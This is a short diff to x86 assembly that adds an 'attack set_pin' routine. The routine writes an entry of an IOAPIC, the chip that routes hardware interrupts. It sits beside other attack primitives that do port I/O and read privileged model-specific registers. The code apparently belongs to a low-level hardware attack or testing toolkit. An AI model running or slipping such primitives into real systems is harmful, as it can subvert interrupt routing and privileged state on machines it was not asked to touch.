@@ -139,6 +139,13 @@ attack set_worst
 	orl $4, %eax
 	outl %eax, %dx
 	jmp *%edi
+	/* 41: an entry of the IOAPIC (EBP): EBX is its register and, from bit 8, its value. */
+attack set_pin
+	movzbl %bl, %eax
+	movl %eax, (%ebp)
+	shrl $8, %ebx
+	movl %ebx, 0x10(%ebp)
+	jmp *%edi
 	/* After the detach: the low words of SYSENTER_CS and PAT to EBX; go on at EDI. */
 attack read_msrs
 	movl $0x174, %ecx
